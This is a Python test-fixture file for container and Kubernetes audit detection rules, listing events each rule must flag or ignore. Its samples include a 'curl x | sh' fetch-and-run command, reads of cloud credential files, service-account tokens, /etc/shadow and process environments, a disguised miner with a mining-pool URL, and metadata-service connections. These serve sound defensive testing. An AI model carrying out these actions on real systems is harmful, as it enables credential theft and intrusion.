"""Events that each rule must alert on, and similar events that it must not."""

from dataclasses import dataclass, replace

from tests.policies.captures import (
    ECONNREFUSED,
    EINPROGRESS,
    ENOENT,
    READ,
    WRITE,
    Action,
    Connected,
    Opened,
    Process,
    Sent,
    Started,
)
from tests.policies.rules import Value

POSTGRES = "docker.io/library/postgres"
BACKUP = "docker.io/terrace/database-backup"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"

INJECTED = Process("sh", ("-c", "curl x | sh"), parent="postgres", image=POSTGRES)
SESSION = Process("bash", parent="runc", terminal=34816, image=POSTGRES)
DUMP = Process("pg_dump", ("lake",))
MINER = Process("xmrig")
HIDDEN_MINER = Process("kworker", ("-o", "stratum+tcp://pool.example:3333"))
APT = Process("apt-get", ("install", "nmap"))
DROPPED = Process("x", path="/tmp/x")
PYTHON, CAT, AWS = Process("python3"), Process("cat"), Process("aws")
JOB = Process("dbt", image="ghcr.io/dbt-labs/dbt-postgres")
BINARY_DIRECTORIES = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")


def on_node(process: Process) -> Process:
    return replace(process, image="")


@dataclass(frozen=True)
class Case:
    rule: str
    alerts: tuple[tuple[Process, Action], ...]
    silent: tuple[tuple[Process, Action], ...]


def started(*processes: Process) -> tuple[tuple[Process, Action], ...]:
    return tuple((process, Started()) for process in processes)


def not_started(process: Process) -> tuple[tuple[Process, Action], ...]:
    """The process, already running, does something else with the result 0, and fails to start a program."""
    return ((process, Connected("10.0.0.9", 5432)), (process, Started(ENOENT)))


CASES = (
    Case(
        "Shell started by a data service",
        started(
            INJECTED,
            replace(INJECTED, parent="java", image="docker.io/trinodb/trino"),
            replace(INJECTED, terminal=34816),
        ),
        (
            *not_started(INJECTED),
            *started(
                replace(INJECTED, image="registry.example.com/app"),
                replace(INJECTED, name="postgres"),
                replace(INJECTED, parent="containerd-shim"),
                replace(INJECTED, arguments=("-c", "pg_isready -q")),
                replace(INJECTED, arguments=("-c", "wal-g wal-push 0001")),
            ),
        ),
    ),
    Case(
        "Interactive shell in a data service",
        started(SESSION, replace(SESSION, name="dash")),
        (
            *not_started(SESSION),
            *started(
                replace(SESSION, image="registry.example.com/app"),
                replace(SESSION, name="psql"),
                replace(SESSION, terminal=0),
            ),
        ),
    ),
    Case(
        "Database dump outside a backup",
        started(DUMP, replace(DUMP, name="mysqldump")),
        (
            *not_started(DUMP),
            *started(on_node(DUMP), replace(DUMP, name="psql"), replace(DUMP, image=BACKUP)),
        ),
    ),
    Case(
        "Cryptocurrency miner started",
        started(MINER, on_node(MINER)),
        (*not_started(MINER), *started(replace(MINER, name="xmllint"))),
    ),
    Case(
        "Mining pool in a command line",
        started(
            HIDDEN_MINER,
            on_node(HIDDEN_MINER),
            replace(HIDDEN_MINER, arguments=("-o", "stratum+ssl://pool.example:443")),
            replace(HIDDEN_MINER, arguments=("-o", "stratum2+tcp://pool.example:3336")),
            replace(HIDDEN_MINER, arguments=("--donate-level", "1")),
        ),
        (*not_started(HIDDEN_MINER), *started(replace(HIDDEN_MINER, arguments=("-o", "https://pool.example")))),
    ),
    Case(
        "Package manager run in a container",
        started(APT, replace(APT, name="pip")),
        (
            *not_started(APT),
            *started(on_node(APT), replace(APT, name="cat"), replace(APT, namespace="jupyterhub")),
        ),
    ),
    Case(
        "Program started from a writable directory",
        started(DROPPED, replace(DROPPED, path="/var/tmp/x"), replace(DROPPED, path="/dev/shm/x")),
        (*not_started(DROPPED), *started(on_node(DROPPED), replace(DROPPED, path="/opt/tmp/x"))),
    ),
    Case(
        "Cloud credential file read",
        (
            (CAT, Opened("/root/.aws/credentials")),
            (CAT, Opened("/home/app/.azure/msal_token_cache.json")),
            (CAT, Opened("/root/.config/gcloud/application_default_credentials.json")),
            (CAT, Opened("/root/.kube/config")),
            (CAT, Opened("/var/lib/app/.pgpass")),
        ),
        (
            (CAT, Opened("/root/.aws/credentials", WRITE)),
            (CAT, Opened("/root/.aws/credentials", result=ENOENT)),
            (on_node(CAT), Opened("/root/.aws/credentials")),
            (CAT, Opened("/root/.aws/config")),
            (AWS, Opened("/root/.aws/credentials")),
        ),
    ),
    Case(
        "Service account token read by an unexpected process",
        (
            (CAT, Opened(TOKEN)),
            (CAT, Opened("/run/secrets/kubernetes.io/serviceaccount/token")),
            (CAT, Opened("/var/run/secrets/eks.amazonaws.com/serviceaccount/token")),
            (CAT, Opened("/var/run/secrets/azure/tokens/azure-identity-token")),
            (CAT, Opened("/var/run/secrets/tokens/gcp-ksa/token")),
        ),
        (
            (CAT, Opened(TOKEN, WRITE)),
            (CAT, Opened(TOKEN, result=ENOENT)),
            (on_node(CAT), Opened(TOKEN)),
            (CAT, Opened("/var/run/secrets/other/token")),
            (PYTHON, Opened(TOKEN)),
        ),
    ),
    Case(
        "Password file read in a container",
        ((CAT, Opened("/etc/shadow")), (CAT, Opened("/etc/gshadow"))),
        (
            (CAT, Opened("/etc/shadow", WRITE)),
            (CAT, Opened("/etc/shadow", result=ENOENT)),
            (on_node(CAT), Opened("/etc/shadow")),
            (CAT, Opened("/etc/passwd")),
            (Process("su"), Opened("/etc/shadow")),
        ),
    ),
    Case(
        "Environment of another process read",
        ((CAT, Opened("/proc/17/environ")),),
        (
            (CAT, Opened("/proc/17/environ", WRITE)),
            (CAT, Opened("/proc/17/environ", result=ENOENT)),
            (on_node(CAT), Opened("/proc/17/environ")),
            (CAT, Opened("/proc/17/status")),
            (CAT, Opened("/proc/self/environ")),
            (CAT, Opened("/proc/thread-self/environ")),
        ),
    ),
    Case(
        "Write below a binary directory of a container",
        tuple((CAT, Opened(f"{directory}/ls", WRITE)) for directory in BINARY_DIRECTORIES),
        (
            (CAT, Opened("/usr/bin/ls", READ)),
            (CAT, Opened("/usr/bin/ls", WRITE, ENOENT)),
            (on_node(CAT), Opened("/usr/bin/ls", WRITE)),
            (CAT, Opened("/usr/share/ls", WRITE)),
        ),
    ),
    Case(
        "Node is written to",
        tuple((on_node(CAT), Opened(f"{directory}/ls", WRITE)) for directory in BINARY_DIRECTORIES),
        (
            (on_node(CAT), Opened("/usr/bin/ls", READ)),
            (on_node(CAT), Opened("/usr/bin/ls", WRITE, ENOENT)),
            (CAT, Opened("/usr/bin/ls", WRITE)),
            (on_node(CAT), Opened("/var/lib/kubelet/config", WRITE)),
        ),
    ),
    Case(
        "Connection to the instance metadata service",
        (
            (PYTHON, Connected("169.254.169.254", 80)),
            (PYTHON, Connected("fd00:ec2::254", 80)),
            (PYTHON, Connected("169.254.169.254", 80, EINPROGRESS)),
            (JOB, Connected("169.254.169.254", 80)),
        ),
        (
            (on_node(PYTHON), Connected("169.254.169.254", 80)),
            (PYTHON, Connected("169.254.169.253", 53)),
            (replace(PYTHON, namespace="kube-system"), Connected("169.254.169.254", 80)),
            (PYTHON, Sent(Connected("169.254.169.254", 80), 0)),
        ),
    ),
    Case(
        "Unexpected outbound connection from a database job",
        (
            (JOB, Connected("203.0.113.7", 443)),
            (JOB, Connected("203.0.113.7", 443, EINPROGRESS)),
            (JOB, Connected("10.0.3.4", 22)),
            (JOB, Connected("2001:db8::7", 443)),
        ),
        (
            (JOB, Sent(Connected("203.0.113.7", 443), 0)),
            (JOB, Connected("10.0.3.4", 5432, ECONNREFUSED)),
            (JOB, Connected("/run/postgresql/.s.PGSQL.5432")),
            (PYTHON, Connected("203.0.113.7", 443)),
            (JOB, Connected("10.0.3.4", 5432)),
            (JOB, Connected("192.168.1.2", 443)),
        ),
    ),
)


Event = dict[str, Value]
PERSON: Event = {"ka.stage": "ResponseComplete", "ka.response.code": "200", "ka.user.name": "ada@example.com"}
EXEC: Event = PERSON | {
    "ka.stage": "ResponseStarted",
    "ka.verb": "get",
    "ka.target.resource": "pods",
    "ka.target.subresource": "exec",
    "ka.response.code": "101",
}
POD: Event = PERSON | {"ka.verb": "create", "ka.target.resource": "pods", "ka.target.namespace": "app"}
PRIVILEGED: Event = POD | {"ka.req.pod.containers.privileged": ["false", "true"]}
DEBUG: Event = POD | {"ka.verb": "patch", "ka.target.subresource": "ephemeralcontainers"}
HOST_NETWORK: Event = POD | {"ka.req.pod.host_network": "true"}
READ_SECRET: Event = PERSON | {"ka.verb": "get", "ka.target.resource": "secrets"}
TOKEN_REQUEST: Event = PERSON | {
    "ka.verb": "create",
    "ka.target.resource": "serviceaccounts",
    "ka.target.subresource": "token",
}
BINDING: Event = PERSON | {
    "ka.verb": "create",
    "ka.target.resource": "clusterrolebindings",
    "ka.req.binding.role": "cluster-admin",
}
WILDCARD: Event = PERSON | {
    "ka.verb": "update",
    "ka.target.resource": "clusterroles",
    "ka.req.role.rules.verbs": ["*"],
}
WEBHOOK: Event = PERSON | {"ka.verb": "delete", "ka.target.resource": "validatingwebhookconfigurations"}

STARTED: Event = {"ka.stage": "RequestReceived"}
FORBIDDEN: Event = {"ka.response.code": "403"}
MACHINES: tuple[Event, ...] = (
    {"ka.user.name": "system:serviceaccount:external-secrets:external-secrets"},
    {"ka.user.name": "eks:addon-manager"},
    {"ka.user.name": "release@project.iam.gserviceaccount.com"},
    {"ka.user.name": "aksService"},
)


@dataclass(frozen=True)
class AuditCase:
    rule: str
    alerts: tuple[Event, ...]
    silent: tuple[Event, ...]


AUDIT_CASES = (
    AuditCase(
        "Exec into a pod",
        (EXEC, EXEC | {"ka.verb": "create", "ka.target.subresource": "attach"}),
        (
            EXEC | {"ka.stage": "ResponseComplete"},
            EXEC | {"ka.target.resource": "virtualmachineinstances"},
            EXEC | {"ka.target.subresource": "log"},
        ),
    ),
    AuditCase(
        "Privileged pod created",
        (
            PRIVILEGED,
            POD | {"ka.req.pod.initContainers.privileged": ["true"]},
            DEBUG | {"ka.req.pod.ephemeralContainers.privileged": ["true"]},
        ),
        (
            PRIVILEGED | STARTED,
            PRIVILEGED | FORBIDDEN,
            PRIVILEGED | {"ka.target.resource": "podtemplates"},
            PRIVILEGED | {"ka.req.pod.containers.privileged": ["false"]},
            PRIVILEGED | {"ka.verb": "update", "ka.target.subresource": "status"},
            PRIVILEGED | {"ka.target.namespace": "kube-system"},
        ),
    ),
    AuditCase(
        "Debug container added to a pod",
        (DEBUG, DEBUG | {"ka.verb": "update"}),
        (
            DEBUG | STARTED,
            DEBUG | FORBIDDEN,
            DEBUG | {"ka.target.resource": "nodes"},
            DEBUG | {"ka.target.subresource": "status"},
            DEBUG | {"ka.verb": "get"},
        ),
    ),
    AuditCase(
        "Secret read by a person",
        (READ_SECRET, READ_SECRET | {"ka.verb": "list"}, READ_SECRET | FORBIDDEN),
        (
            READ_SECRET | STARTED,
            READ_SECRET | {"ka.target.resource": "configmaps"},
            READ_SECRET | {"ka.verb": "create"},
            *(READ_SECRET | machine for machine in MACHINES),
        ),
    ),
    AuditCase(
        "Service account token requested by a person",
        (TOKEN_REQUEST,),
        (
            TOKEN_REQUEST | STARTED,
            TOKEN_REQUEST | FORBIDDEN,
            TOKEN_REQUEST | {"ka.target.resource": "tokenreviews"},
            TOKEN_REQUEST | {"ka.target.subresource": "status"},
            *(TOKEN_REQUEST | machine for machine in MACHINES),
        ),
    ),
    AuditCase(
        "Binding to cluster-admin",
        (BINDING, BINDING | {"ka.target.resource": "rolebindings"}, BINDING | FORBIDDEN, BINDING | MACHINES[0]),
        (
            BINDING | STARTED,
            BINDING | {"ka.target.resource": "clusterroles"},
            BINDING | {"ka.verb": "delete"},
            BINDING | {"ka.req.binding.role": "view"},
        ),
    ),
    AuditCase(
        "Role with wildcard verbs",
        (WILDCARD, WILDCARD | {"ka.target.resource": "roles", "ka.req.role.rules.verbs": ["get", "*"]}),
        (
            WILDCARD | STARTED,
            WILDCARD | FORBIDDEN,
            WILDCARD | {"ka.target.resource": "customresourcedefinitions"},
            WILDCARD | {"ka.verb": "delete"},
            WILDCARD | {"ka.req.role.rules.verbs": ["get"]},
            *(WILDCARD | machine for machine in MACHINES),
        ),
    ),
    AuditCase(
        "Pod in a host namespace created",
        (HOST_NETWORK, POD | {"ka.req.pod.host_pid": "true"}, POD | {"ka.req.pod.host_ipc": "true"}),
        (
            HOST_NETWORK | STARTED,
            HOST_NETWORK | FORBIDDEN,
            HOST_NETWORK | {"ka.target.resource": "podtemplates"},
            HOST_NETWORK | {"ka.verb": "update"},
            HOST_NETWORK | {"ka.target.subresource": "binding"},
            HOST_NETWORK | {"ka.req.pod.host_network": "false"},
            HOST_NETWORK | {"ka.target.namespace": "kube-system"},
        ),
    ),
    AuditCase(
        "Admission webhook changed by a person",
        (WEBHOOK, WEBHOOK | {"ka.verb": "patch", "ka.target.resource": "mutatingwebhookconfigurations"}),
        (
            WEBHOOK | STARTED,
            WEBHOOK | FORBIDDEN,
            WEBHOOK | {"ka.target.resource": "validatingadmissionpolicies"},
            WEBHOOK | {"ka.verb": "get"},
            *(WEBHOOK | machine for machine in MACHINES),
        ),
    ),
)
